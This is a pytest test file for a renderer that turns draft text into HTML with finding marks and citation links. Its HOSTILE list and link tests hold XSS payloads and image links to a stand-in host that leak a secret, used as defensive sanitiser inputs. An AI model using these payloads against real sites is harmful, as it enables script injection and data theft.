"""Draft text as HTML: marks at their place, citations as links, and nothing of the text's own making."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from proposal.findings import Finding, Severity
from serve.rendering import References, render
from tests.serve.builders import a_finding
from tests.serve.page import parse

REFERENCES = References(ids={"E1", "E2"}, urls={"https://data.example.org/q?a=1&b=2"})
ALLOWED = {
    *("p", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "hr", "br"),
    *("ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td"),
    *("a", "code", "strong", "em", "s", "mark", "span"),
}


def marked(text: str, *places: str, severity: Severity = "warning") -> dict[str, list[str]]:
    """Return, for each place, the texts of the marks that carry its finding."""
    findings = [a_finding(text, place, severity=severity, rule=f"R-{place}") for place in places]
    page = parse(render(text, findings=findings, to=REFERENCES).body)
    return {
        place: [one.text for one in page.all("mark") if f"R-{place}:" in one.attributes["title"]] for place in places
    }


@pytest.mark.parametrize(
    ("text", "place", "shown"),
    [
        ("The fee falls to nothing.", "falls to", ["falls to"]),
        ("费用在第三季度下降。", "第三季度", ["第三季度"]),
        ("Costs **rise** and *fall*.", "rise** and *fall", ["rise", " and ", "fall"]),
        ("## Risks of this\n\ntext", "Risks", ["Risks"]),
        ("- one\n- two three\n", "two", ["two"]),
        ("> quoted\n> words here", "words", ["words"]),
        ("> lazy\ncontinued", "lazy\ncontinued", ["lazy", "continued"]),
        ("1. item one\n   second line", "second", ["second"]),
        ("| a | b |\n|---|---|\n| 1 | 1 |\n", "1 | 1", ["1", "1"]),
        ("| a | b |\n|---|---|\n| x | 7 |\n", "7", ["7"]),
        ("a `code` b", "code", ["code"]),
        ("```\nfirst\nsecond\n```\n", "second", ["second"]),
        ("    indented\n", "indented", ["indented"]),
        ("5 &amp; 6 \\* 7", "&amp; 6 \\*", ["&", " 6 ", "*"]),
        ("see [label](https://x.org/label) label", " label", [" label"]),
        ("hard  \nbreak", "hard  \nbreak", ["hard", "break"]),
        ("one\r\ntwo\r\n\r\nthree", "three", ["three"]),
        ("it is \N{ROCKET} high", "high", ["high"]),
        ("- [E1] Sales. <https://data.example.org/q?a=1&b=2>", "Sales", ["Sales"]),
        ("across\n\nblocks", "across\n\nblocks", ["across", "blocks"]),
    ],
)
def test_a_finding_is_marked_where_it_stands(text: str, place: str, shown: list[str]) -> None:
    assert marked(text, place)[place] == shown


def test_the_title_is_shown_apart_with_its_marks() -> None:
    text = "# A *great* plan\n\nBody.\n"
    rendered = render(text, findings=[a_finding(text, "great")], to=REFERENCES)
    assert parse(rendered.title).text == "A great1 plan"
    assert parse(rendered.title).one("mark").text == "great"
    assert parse(rendered.body).text == "Body."


def test_marks_and_the_list_point_at_each_other() -> None:
    text = "One claim here and another claim there."
    findings = [a_finding(text, "One claim"), a_finding(text, "another", severity="error")]
    rendered = render(text, findings=findings, to=REFERENCES)
    page = parse(rendered.body)
    assert rendered.marked == {1, 2}
    for number, kind in ((1, "warning"), (2, "error")):
        assert page.one("span", id=f"mark-{number}").one("mark", class_=kind)
        link = page.one("a", class_=f"ref {kind}".split()[0], href=f"#finding-{number}")
        assert link.text == str(number)
        assert link.attributes["aria-label"].startswith(f"{number}: look at")


def test_overlapping_findings_are_both_there_and_the_stronger_colours() -> None:
    text = "aaa bbb ccc"
    findings = [
        a_finding(text, "aaa bbb", rule="R-1"),
        a_finding(text, "bbb ccc", severity="error", rule="R-2"),
    ]
    page = parse(render(text, findings=findings, to=REFERENCES).body)
    found = [(one.text, one.attributes["class"]) for one in page.all("mark")]
    assert found == [("aaa ", "warning"), ("bbb", "error"), (" ccc", "error")]
    assert [one.text for one in page.all("a")] == ["1", "2"]


def test_a_finding_without_a_place_in_running_text_has_no_mark() -> None:
    text = "## Risks\n\n[a](https://x.org/path)\n"
    findings = [
        a_finding(text, "##"),
        a_finding(text, "path"),
        Finding(rule="R", severity="error", message="m", start=0, end=0, line=1, column=1),
    ]
    assert render(text, findings=findings, to=REFERENCES).marked == frozenset()


def test_a_citation_links_to_its_evidence_and_an_unknown_one_does_not() -> None:
    page = parse(render("Sales fell [E1], [E9] and `[E2]`.", to=REFERENCES).body)
    assert [(one.text, one.attributes["href"]) for one in page.all("a")] == [("[E1]", "#E1")]


def test_only_an_evidence_items_own_address_is_a_link() -> None:
    text = (
        "<https://data.example.org/q?a=1&b=2> [good](https://data.example.org/q?a=1&b=2) "
        "[here](https://evil.example/x) <https://evil.example/y> [rel](/sign-out) [js](javascript:a)"
    )
    page = parse(render(text, to=REFERENCES).body)
    assert {one.attributes["href"] for one in page.all("a")} == {"https://data.example.org/q?a=1&b=2"}
    assert "here (evil.example)" in page.text
    assert "https://evil.example/y" in page.text
    assert all("noopener" in one.attributes["rel"] for one in page.all("a"))


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![chart](https://evil.example/leak.png?d=secret)",
    "![chart][1]\n\n[1]: https://evil.example/leak.png",
    "[a](javascript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "<a href='javascript:alert(1)'>a</a>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<svg/onload=alert(1)>",
    '[a](https://x.org "onmouseover=alert(1)")',
    '[E1]: https://evil.example\n\n[E1] "><img src=x>',
    "`<img src=x>` and ```<b>```",
    "<!-- hidden --> <mark id='E1'>fake</mark>",
    "| <b>a</b> |\n|---|\n| ![x](https://evil.example) |",
    "---\ntitle: <script>alert(1)</script>\n---\n\ntext",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(text: str) -> None:
    marks = [a_finding(text, text[2:9], rule='"><script>')]
    rendered = render(text, findings=marks, to=REFERENCES)
    assert_harmless(rendered.title + rendered.body)


def assert_harmless(markup: str) -> None:
    for element in parse(markup).walk():
        assert element.tag in ALLOWED | {""}
        assert not any(name.startswith("on") or name == "style" for name in element.attributes)
        assert "src" not in element.attributes
        href = element.attributes.get("href", "")
        assert href.startswith("#") or href in {"", *REFERENCES.urls}
        if element.attributes.get("id"):
            assert re.fullmatch(r"(mark|s)-[0-9]+", element.attributes["id"])


SCRAPS = st.sampled_from(
    [
        *("# ", "## ", "- ", "> ", "    ", "\t", "1. ", "| a | b |\n|---|---|\n", "| 1 | `x` |\n"),
        *("**", "_", "~~", "`", "```\n", "[", "](", ")", "[E1]", "[E1]: x\n", "![", "<b>", "<https://a.b>"),
        *("&amp;", "\\*", "\n", "\r\n", "\r", "\n\n", "---\n", "--- \n", "===\n", "x", "fee 45", "费用"),
        *("\u200b", "\0", "\ud83d", "\N{ROCKET}", "\u2028", "\x85", "<script>", '"', "'"),
    ]
)


@pytest.mark.slow
@settings(max_examples=300, deadline=None)
@given(
    scraps=st.lists(SCRAPS, max_size=40),
    places=st.lists(st.tuples(st.integers(0, 80), st.integers(0, 30)), max_size=6),
)
def test_no_text_and_no_place_break_the_page(scraps: list[str], places: list[tuple[int, int]]) -> None:
    text = "".join(scraps)
    findings = [
        Finding(rule="R", severity="error", message="<m>", start=a, end=a + b, line=1, column=1) for a, b in places
    ]
    rendered = render(text, findings=findings, to=REFERENCES)
    assert_harmless(rendered.title + rendered.body)
    plain = render(text, to=REFERENCES)
    assert without_marks(rendered.body) == without_marks(plain.body)
    assert without_marks(rendered.title) == without_marks(plain.title)


def without_marks(markup: str) -> str:
    """Take marks and their numbers out again: what is left must be the text as it was."""
    markup = re.sub(r'<a class="ref [^>]*>[0-9]+</a>', "", markup)
    markup = re.sub(r'<span id="mark-[0-9]+">|</span>|</?mark[^>]*>', "", markup)
    # Cutting a code span at a mark's edge makes two of it.
    return re.sub(r"</code><code>|<span class=\"host\">", "", markup)


def test_a_long_hostile_text_is_rendered_in_a_second() -> None:
    text = "[a](" * 4_000 + "*a `b " * 4_000 + "\n" + "> " * 500 + "x\n" + "| a " * 5_000
    findings = [a_finding(text, "a `b") for _ in range(50)]
    started = time.perf_counter()
    assert_harmless(render(text, findings=findings, to=REFERENCES).body)
    assert time.perf_counter() - started < 5
